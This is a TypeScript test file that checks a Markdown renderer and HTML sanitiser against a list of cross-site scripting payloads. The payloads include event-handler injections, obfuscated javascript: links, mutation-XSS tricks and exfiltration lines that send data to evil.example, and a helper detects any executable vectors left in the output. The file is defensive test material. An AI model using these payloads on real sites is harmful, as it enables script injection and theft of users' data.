import { describe, expect, it } from 'vitest'
import { renderMarkdown, sanitizeHtml } from './markdown'

/** Parses the output and lists every executable vector it still contains. */
function executableVectors(html: string): string[] {
  const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html')
  const found: string[] = []
  for (const el of Array.from(doc.body.querySelectorAll('*'))) {
    const tag = el.tagName.toLowerCase()
    if (['script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'form', 'base', 'meta', 'link', 'button', 'input'].includes(tag)) found.push(`<${tag}>`)
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase()
      const value = attr.value.replace(/[\u0000-\u0020]/g, '').toLowerCase()
      if (name.startsWith('on')) found.push(`${tag}[${name}]`)
      if (name === 'style' || name === 'srcset' || name === 'formaction' || name === 'action') found.push(`${tag}[${name}]`)
      if (['href', 'src', 'xlink:href'].includes(name)) {
        if (/^(javascript|vbscript|data|blob|file):/.test(value) && !(tag === 'img' && /^data:image\/(png|gif|jpe?g|webp);base64,/.test(value))) {
          found.push(`${tag}[${name}=${value.slice(0, 20)}]`)
        }
        if (tag === 'img' && /^(https?:)?\/\//.test(value)) found.push(`remote img ${value}`)
      }
    }
  }
  return found
}

const payloads = [
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="fetch(\'https://evil.example/steal\')">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript&#x3A;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<a href="https://ok.example" onclick="alert(1)">ok</a>',
  '![a](https://evil.example/pixel.png?secret=1)',
  '![a](javascript:alert(1))',
  '[![img](x)](javascript:alert(1))',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<base href="javascript:alert(1)//">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '&lt;img src=x onerror=alert(1)&gt;',
  '[x]: javascript:alert(1)\n\n[link][x]',
  '<javascript:alert(1)>',
  '`<img src=x onerror=alert(1)>`',
  '```html\n<script>alert(1)</script>\n```',
]

describe('renderMarkdown', () => {
  it.each(payloads)('leaves no executable vector in %s', (payload) => {
    const html = renderMarkdown(payload)
    expect(executableVectors(html)).toEqual([])
    // Also in the middle of ordinary text and a list.
    expect(executableVectors(renderMarkdown(`Hello\n\n- item ${payload}\n\n${payload} end`))).toEqual([])
  })

  it('shows raw HTML from the model as text instead of dropping it', () => {
    const html = renderMarkdown('<img src=x onerror=alert(1)>')
    const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html')
    expect(doc.body.textContent).toContain('<img src=x onerror=alert(1)>')
    expect(doc.body.querySelector('img')).toBeNull()
  })

  it('opens safe links in a new tab without an opener or referrer', () => {
    const html = renderMarkdown('see [docs](https://example.com/a?b=1) and https://example.org')
    const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html')
    const links = Array.from(doc.querySelectorAll('a'))
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1', 'https://example.org'])
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank')
      expect(a.getAttribute('rel')).toContain('noopener')
      expect(a.getAttribute('rel')).toContain('noreferrer')
    }
  })

  it('keeps the link text but drops the target of a javascript: link', () => {
    const html = renderMarkdown('[press me](javascript:alert(1))')
    expect(html).not.toMatch(/javascript/i)
    expect(html).toContain('press me')
  })

  it('highlights fenced code and escapes it', () => {
    const html = renderMarkdown('```js\nconst a = "<b>";\n```')
    const doc = new DOMParser().parseFromString(`<body>${html}</body>`, 'text/html')
    const code = doc.querySelector('pre > code')
    expect(code?.className).toContain('language-js')
    expect(code?.querySelector('.hljs-keyword')?.textContent).toBe('const')
    expect(code?.textContent).toBe('const a = "<b>";')
    expect(doc.querySelector('b')).toBeNull()
  })

  it('renders common Markdown', () => {
    const html = renderMarkdown('# Title\n\n**bold** and *em*, `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |')
    expect(html).toContain('<h1>Title</h1>')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('<code>code</code>')
    expect(html).toContain('<table>')
  })
})

describe('sanitizeHtml', () => {
  it.each([
    '<img src=x onerror=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href=" &#14;javascript:alert(1)">x</a>',
    '<img src="https://evil.example/x.png">',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  ])('neutralises raw HTML %s', (payload) => {
    expect(executableVectors(sanitizeHtml(payload))).toEqual([])
  })
})
